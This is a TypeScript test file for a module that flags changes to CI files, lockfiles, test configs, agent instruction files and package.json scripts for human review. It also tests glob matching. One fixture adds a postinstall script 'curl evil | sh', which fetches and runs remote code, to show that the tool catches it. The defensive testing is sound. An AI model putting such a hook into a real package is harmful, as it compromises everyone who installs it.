import fc from 'fast-check';
import { changesScripts } from '../../src/domain/package-json';
import { namingObjection, protectedAs, protectedPaths } from '../../src/domain/protected-paths';
import { leastComputed } from '../quickest';

const none = { patterns: [] };
const found = (paths: readonly string[], patterns: readonly string[] = []) =>
  protectedPaths(
    paths.map((path) => ({ path })),
    { patterns },
  );

test.each([
  ['CI', '.github/workflows/ci.yml', '.gitlab-ci.yml', '.circleci/config.yml', 'Jenkinsfile', '.travis.yml'],
  ['CI', 'azure-pipelines.yml', 'bitbucket-pipelines.yml', '.husky/pre-commit', 'deep/down/.github/x', 'CODEOWNERS'],
  ['lockfile', 'package-lock.json', 'npm-shrinkwrap.json', 'yarn.lock', 'pnpm-lock.yaml', 'bun.lockb', 'poetry.lock'],
  ['lockfile', 'Pipfile.lock', 'uv.lock', 'Cargo.lock', 'go.sum', 'Gemfile.lock', 'composer.lock', 'app/yarn.lock'],
  ['test configuration', 'jest.config.js', 'vitest.config.ts', 'conftest.py', 'pytest.ini', 'tox.ini', 'setup.cfg'],
  ['test configuration', '.mocharc.json', '.npmrc', 'pyproject.toml', '.coveragerc', '.nycrc.json', 'codecov.yml'],
  [
    'instructions for agents',
    'AGENTS.md',
    'CLAUDE.md',
    'sub/CLAUDE.local.md',
    'GEMINI.md',
    '.cursorrules',
    '.mcp.json',
  ],
  ['instructions for agents', '.cursor/rules/a.mdc', '.claude/settings.json', '.clinerules', 'Agents.md', 'agents.MD'],
  ["Millwright's configuration", '.millwright.yaml', '.millwright/pipelines/a.yaml', 'pkg/.Millwright.yaml'],
])('%s: %s and the like are protected, wherever they are and in whatever case', (what, ...paths) => {
  for (const path of paths)
    for (const name of [path, path.toUpperCase(), `deeper/${path}`])
      expect([name, protectedAs(name)]).toEqual([name, what]);
});

test('what is only code, or only looks like it, is not', () => {
  const plain = [
    'src/github/client.js',
    'lock.js',
    'src/agents.ts',
    'docs/agents/reviewer.md',
    'README.md',
    'yarn.lock.md',
  ];
  expect(found([...plain, 'src/lockfile.json', 'my-package-lock.js', 'github/x.yml', 'Makefile'])).toEqual([]);
});

describe('a package.json', () => {
  const text = (fields: object) => JSON.stringify({ name: 'shop', ...fields });
  const asked = (before: string | undefined | null, after: string | undefined | null) =>
    protectedPaths([{ path: 'web/package.json', before, after }], none).length > 0;

  test.each<[string, string | undefined | null, string | undefined | null]>([
    ['gets a script', text({}), text({ scripts: { postinstall: 'curl evil | sh' } })],
    ['changes one', text({ scripts: { test: 'node --test' } }), text({ scripts: { test: 'true' } })],
    ['loses one', text({ scripts: { test: 'node --test' } }), text({})],
    ['is new, with scripts', undefined, text({ scripts: { test: 'node --test' } })],
    ['is gone, and its scripts with it', text({ scripts: { test: 'node --test' } }), undefined],
    ["changes a runner's settings", text({ jest: {} }), text({ jest: { setupFiles: ['./x.js'] } })],
    ['runs something at each commit', text({}), text({ husky: { hooks: {} } })],
    ['can no longer be read', text({}), '{ "scripts": '],
    ['could not be read before', '[]', text({})],
    ['is no text', text({}), null],
    ['was no text, and is none', null, null],
  ])('that %s needs a person', (_, before, after) => expect(asked(before, after)).toBe(true));

  test.each<[string, string | undefined, string | undefined]>([
    ['another version', text({ version: '1.0.0', scripts: {} }), text({ version: '1.0.1', scripts: {} })],
    ['a new one without scripts', undefined, text({ type: 'module' })],
    [
      'the same in another order',
      text({ scripts: { test: 'x' }, main: 'a' }),
      text({ main: 'a', scripts: { test: 'x' } }),
    ],
  ])('%s needs nobody', (_, before, after) => expect(asked(before, after)).toBe(false));

  test('another file of such a content is only a file', () => {
    expect(changesScripts(undefined, text({ scripts: { a: 'b' } }))).toBe(true);
    const change = { path: 'docs/package.json.md', before: undefined, after: text({ scripts: { a: 'b' } }) };
    expect(protectedPaths([change], none)).toEqual([]);
  });
});

describe("the base's own patterns", () => {
  test.each<[string, readonly string[], readonly string[]]>([
    ['infra/', ['infra/main.tf', 'infra/a/b', 'INFRA/main.tf', 'x/infra/y'], ['infrastructure/a', 'src/infra.js']],
    ['infra/prod', ['infra/prod', 'infra/prod/a'], ['infra/production', 'x/infra/prod/a']],
    ['/Makefile', ['Makefile', 'makefile'], ['src/Makefile']],
    ['Makefile', ['Makefile', 'src/Makefile'], ['Makefile.md']],
    ['*.sql', ['a.sql', 'db/migrations/1.sql', 'a.sql/b'], ['a.sqlite']],
    ['db/**/*.sql', ['db/1.sql', 'db/a/b/1.sql'], ['db/1.sq', 'x/db/1.sql']],
    ['src/*/keys.js', ['src/a/keys.js'], ['src/keys.js', 'src/a/b/keys.js']],
    ['a?c.txt', ['abc.txt'], ['ac.txt', 'abbc.txt']],
    ['./deploy/*.sh', ['deploy/now.sh'], ['deploy/now.py']],
  ])('%s', (pattern, paths, others) => {
    expect(found([...paths, ...others], [pattern])).toEqual([...paths].sort());
  });

  test('that cannot be read protect everything', () => {
    expect(protectedPaths([{ path: 'src/a.js' }], { broken: 'it is no YAML' })).toEqual(['src/a.js']);
  });

  test('with many stars take no longer than others', async () => {
    const [pattern, path] = [`${'*a'.repeat(110)}b`, 'a'.repeat(230)];
    const folders = Array.from({ length: 60 }, () => '**').join('/a/');
    const deep = path.split('').join('/');
    const matched = () => expect(found([path, deep], [pattern, folders, `${folders}/b`])).toEqual([deep]);
    expect(await leastComputed(matched)).toBeLessThan(1_000);
  });

  test('match as the same patterns spelled as a regular expression do', () => {
    const part = fc
      .array(fc.constantFrom('a', 'b', '*', '?'), { minLength: 1, maxLength: 4 })
      .map((all) => all.join(''));
    const pattern = fc.array(fc.oneof(part, fc.constant('**')), { minLength: 1, maxLength: 4 });
    const path = fc.array(fc.string({ unit: fc.constantFrom('a', 'b'), minLength: 1, maxLength: 4 }), {
      minLength: 1,
      maxLength: 4,
    });
    const plain = (parts: readonly string[]) =>
      parts
        .map((each) => (each === '**' ? '(?:[^/]+/)*' : `${each.replace(/\*+/g, '[^/]*').replaceAll('?', '[^/]')}/`))
        .join('');
    fc.assert(
      fc.property(pattern, path, (parts, names) => {
        const same = new RegExp(`^${plain(parts)}(?:[^/]+/)*$`).test(`${names.join('/')}/`);
        expect(found([names.join('/')], [`/${parts.join('/')}`]).length === 1).toBe(same);
      }),
      { numRuns: 10_000 },
    );
  });
});

test('an approval names exactly the paths that change', () => {
  expect(namingObjection(['a', 'b'], ['b', 'a'])).toBeUndefined();
  expect(namingObjection([], [])).toBeUndefined();
  expect(namingObjection(['a', 'b'], ['a'])).toBe('it does not name the protected paths that change: b');
  expect(namingObjection(['a'], ['a', '**'])).toBe('it names what is no protected path that changes: **');
  expect(namingObjection(['a'], [])).toMatch(/does not name/);
});
